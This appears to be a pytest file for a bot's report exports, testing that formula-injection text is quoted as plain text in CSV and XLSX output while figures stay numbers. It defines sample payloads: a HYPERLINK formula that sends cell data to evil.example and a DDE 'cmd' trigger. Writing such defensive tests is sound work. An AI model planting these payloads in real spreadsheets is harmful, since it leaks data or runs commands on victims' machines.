"""Formula injection: people's text never becomes a live formula in any export (the CSV and
XLSX report, the directory CSV), while figures stay numbers."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from bot.cli import main
from bot.reports.figures import ReportData
from bot.reports.render import to_csv
from bot.reports.xlsx import to_xlsx
from bot.spreadsheet_safety import csv_cell, from_csv_cell, is_number
from tests.harness import SHIPPED_CONFIG
from tests.returns_support import january_report, running
from tests.test_report import FIRST_JPA

EVIL = '=HYPERLINK("http://evil.example/?"&B8)'
TRIGGERS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", TRIGGERS)
def test_text_that_starts_like_a_formula_is_quoted(text: str) -> None:
    assert csv_cell(text) == "'" + text
    assert from_csv_cell(str(csv_cell(text))) == text


@pytest.mark.parametrize("value", ["-5", "12.50", "+3", "Thailand", "", "O'Brien", 7, -4.5])
def test_numbers_and_plain_text_are_left_as_they_are(value: object) -> None:
    assert csv_cell(value) == value


@pytest.mark.parametrize("text", ["-5\n", "+5\n", "-١٢", "-๑๒", "+٣.٥"])
def test_only_ascii_digits_to_the_very_end_are_a_number(text: str) -> None:
    """``-5\n`` or ``-١٢`` is no plain number: it starts like a formula, so it is quoted."""
    assert not is_number(text)
    assert csv_cell(text) == "'" + text and from_csv_cell("'" + text) == text


def no_formula_cells(xlsx: bytes) -> list[object]:
    """Every cell value of the workbook, after checking that none is a formula."""
    book = load_workbook(io.BytesIO(xlsx))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


async def cli(command: str, *args: str) -> str:
    """``focalbot <command> --config bot.toml <args>``; its standard output."""
    words = [*command.split(), "--config", str(SHIPPED_CONFIG), *args]
    result = await asyncio.to_thread(CliRunner().invoke, main, words)
    assert result.exit_code == 0, result.output
    return result.output


async def test_a_returns_note_is_never_a_formula_in_the_report(tmp_path: Path) -> None:
    bot = await running(tmp_path, at=datetime(2015, 10, 30, 3, tzinfo=UTC), periods=(FIRST_JPA,))
    [summary] = await bot.say("th-fp", f"/return arrests 3, victims assisted 2, notes: {EVIL}")
    assert f"Notes: {EVIL}" in summary
    assert "is submitted" in (await bot.say("th-fp", "/return confirm"))[0]
    await bot.stop()
    db = str(tmp_path / "bot.db")

    rows = list(
        csv.DictReader(io.StringIO(await cli("report", "-d", db, "JPA-1", "--format", "csv")))
    )
    thailand = next(r for r in rows if r["Code"] == "TH")
    assert thailand["Notes"] == "'" + EVIL and thailand["Arrests"] == "3"

    target = tmp_path / "jpa1.xlsx"
    await cli("report", "-d", db, "JPA-1", "--format", "xlsx", "-o", str(target))
    values = no_formula_cells(target.read_bytes())
    assert EVIL in values and 3 in values  # the note as text, the figure as a number


def report_with(
    texts: dict[tuple[str, str], tuple[str, ...]], sums: dict[tuple[str, str, str], int]
) -> ReportData:
    return january_report({"TH": "@Thailand"}, sums, texts, submitted=True)


def test_every_trigger_in_every_report_format_is_text_and_numbers_stay_numbers() -> None:
    data = report_with({("TH", "notes"): (TRIGGERS[1],)}, {("TH", "arrests", ""): -1234})
    [th] = [r for r in csv.reader(io.StringIO(to_csv(data))) if r[0] == "TH"]
    assert th[1] == "'@Thailand" and "'" + TRIGGERS[1] in th and "-1234" in th
    values = no_formula_cells(to_xlsx(data))
    assert "@Thailand" in values and TRIGGERS[1] in values and -1234 in values


def test_a_formula_like_note_keeps_its_quote_prefix_beside_its_figure_styles() -> None:
    # A plain note first, so the formula-like one is not the first text cell styled.
    data = january_report(
        {"MY": "Malaysia", "TH": "Thailand"},
        {("MY", "arrests", ""): 1, ("TH", "arrests", ""): 5},
        {("MY", "notes"): ("plain",), ("TH", "notes"): (TRIGGERS[1],)},
        submitted=True,
    )
    sheet = load_workbook(io.BytesIO(to_xlsx(data)))["By country"]
    head = [c.value for c in sheet[1]]
    rows = {r[0].value: r for r in sheet.iter_rows(min_row=2)}
    note = rows["TH"][head.index("Notes")]
    assert note.value == TRIGGERS[1] and note.quotePrefix and note.alignment.wrap_text
    assert not rows["MY"][head.index("Notes")].quotePrefix
    assert rows["MY"][head.index("Notes")].alignment.wrap_text
    assert rows["TH"][head.index("Arrests")].number_format == "#,##0"
